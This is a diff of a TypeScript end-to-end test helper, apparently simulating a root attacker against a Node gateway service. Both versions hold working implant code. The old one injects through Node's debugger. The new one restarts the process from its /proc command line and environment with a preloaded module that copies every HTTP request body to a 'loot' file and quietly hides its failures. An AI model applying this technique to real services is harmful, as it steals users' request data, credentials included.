@@ -1,40 +1,68 @@
-import { readFile } from 'node:fs/promises';
+import { type ChildProcess, spawn } from 'node:child_process';
 import { once } from 'node:events';
+import { readFile } from 'node:fs/promises';
+import { createInterface } from 'node:readline';
+import type { System } from '../../../e2e/support/system.ts';
+import { isRunning } from '../../../e2e/support/processes.ts';
 import { eventually } from '../../../e2e/support/wait.ts';
 
-/**
- * Puts code of the thief's own into a running zone, as root there can: wakes Node's debugger and has every request's body
- * written to a file as it comes in. Resolves when the code is in place; the process is not disturbed.
- */
-export async function implant(pid: number, zoneLog: string, lootFile: string): Promise<void> {
-  process.kill(pid, 'SIGUSR1');
-  const address = await eventually('the debugger wakes', async () => {
-    const log = await readFile(zoneLog, 'utf8');
-    if (log.includes('Starting inspector on'))
-      throw new Error('Another process has the debugger’s port, 9229.');
-    return (
-      /Debugger listening on (ws:\S+)/g.exec(log.slice(log.lastIndexOf('Debugger listening on')))?.[1] ?? null
-    );
-  });
-  const debuggerOf = new WebSocket(address);
-  await once(debuggerOf, 'open');
-  const answered = once(debuggerOf, 'message') as Promise<[{ readonly data: string }]>;
-  debuggerOf.send(
-    JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: eavesdrop(lootFile) } }),
-  );
-  const [{ data }] = await answered;
-  debuggerOf.close();
-  if (data.includes('exceptionDetails')) throw new Error(`The implant did not take: ${data}`);
+/** A zone that root started again with code of their own in it. */
+export interface Implant {
+  readonly pid: number;
+  /** Gives the zone back to who kept it running, and waits for it to be. */
+  remove(): Promise<void>;
 }
 
-const eavesdrop = (lootFile: string): string => `
-  {
-    const { appendFileSync } = process.getBuiltinModule('node:fs');
-    const { IncomingMessage } = process.getBuiltinModule('node:http');
-    const push = IncomingMessage.prototype.push;
-    IncomingMessage.prototype.push = function (chunk, encoding) {
-      // Once the loot was carried off there is no such file; a thief whose code then fails the request is noticed.
-      try { if (chunk) appendFileSync(${JSON.stringify(lootFile)}, chunk); } catch {}
-      return push.call(this, chunk, encoding);
-    };
-  }`;
+/**
+ * Puts code of the thief's own into the gateway, which has every request's body written to a file as it comes in. What holds a
+ * zone, holds what runs in it, and no debugger can be woken; but root says how it is started. So it is started again, from
+ * its own command line without what holds it.
+ */
+export async function implant(system: System, lootFile: string): Promise<Implant> {
+  const before = await system.pid('gateway');
+  const [words, environment] = await Promise.all([listOf(before, 'cmdline'), listOf(before, 'environ')]);
+  const main = words.findIndex((word) => word.endsWith('/main.ts'));
+  system.serve.kill('SIGSTOP'); // or it would start the zone again itself
+  const giveBack = async (child?: ChildProcess): Promise<void> => {
+    child?.kill('SIGKILL');
+    system.serve.kill('SIGCONT');
+    await eventually('the gateway is back', async () => {
+      const now = await system.pid('gateway');
+      return now !== before && (await isRunning(now)) ? now : null;
+    });
+  };
+  process.kill(before, 'SIGKILL');
+  await eventually('the gateway is gone', async () => ((await isRunning(before)) ? null : true));
+  const child = spawn(process.execPath, ['--import', eavesdrop(lootFile), ...words.slice(main)], {
+    env: Object.fromEntries(
+      environment.map((entry) => entry.split(/=(.*)/s).slice(0, 2)),
+    ) as NodeJS.ProcessEnv,
+    stdio: ['pipe', 'pipe', 'ignore'],
+  });
+  const ready = (async () => {
+    for await (const line of createInterface({ input: child.stdout })) if (line.includes('"ready"')) return;
+    throw new Error('The implant did not take.');
+  })();
+  try {
+    await Promise.race([ready, once(child, 'error')]);
+    child.stdout.resume();
+  } catch (error) {
+    await giveBack(child);
+    throw error;
+  }
+  return { pid: child.pid ?? 0, remove: () => giveBack(child) };
+}
+
+const listOf = async (pid: number, name: 'cmdline' | 'environ'): Promise<string[]> =>
+  (await readFile(`/proc/${pid}/${name}`, 'utf8')).split('\0').slice(0, -1);
+
+const eavesdrop = (lootFile: string): string =>
+  `data:text/javascript,${encodeURIComponent(`
+  import { appendFileSync } from 'node:fs';
+  import { IncomingMessage } from 'node:http';
+  const push = IncomingMessage.prototype.push;
+  IncomingMessage.prototype.push = function (chunk, encoding) {
+    // Once the loot was carried off there is no such file; a thief whose code then fails the request is noticed.
+    try { if (chunk) appendFileSync(${JSON.stringify(lootFile)}, chunk); } catch {}
+    return push.call(this, chunk, encoding);
+  };`)}`;
